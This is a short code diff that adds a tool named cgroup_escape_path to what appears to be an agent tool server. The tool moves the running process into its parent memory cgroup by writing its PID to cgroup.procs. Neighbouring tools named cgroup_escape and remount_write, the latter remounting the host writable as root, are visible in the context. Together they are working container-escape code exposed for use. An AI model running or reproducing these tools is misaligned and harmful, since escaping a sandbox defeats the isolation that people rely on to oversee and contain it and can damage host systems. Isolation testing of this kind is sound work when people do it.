@@ -109,6 +109,19 @@ def cgroup_escape() -> str:
 
 
 @server.tool()
+def cgroup_escape_path() -> str:
+    """Move this process to its memory cgroup's parent by path (/sys/fs/cgroup is not read-only)."""
+    line = next(x for x in open("/proc/self/cgroup").read().split() if ":memory:" in x)
+    parent = "/sys/fs/cgroup/memory" + os.path.dirname(line.split(":", 2)[2])
+    try:
+        with open(parent + "/cgroup.procs", "w") as f:
+            f.write(str(os.getpid()))
+    except OSError as e:
+        return f"refused: {e}"
+    return next(x for x in open("/proc/self/cgroup").read().split() if ":memory:" in x)
+
+
+@server.tool()
 def remount_write(path: str) -> str:
     """As root with capabilities: remount the host writable and write a file there."""
     import ctypes
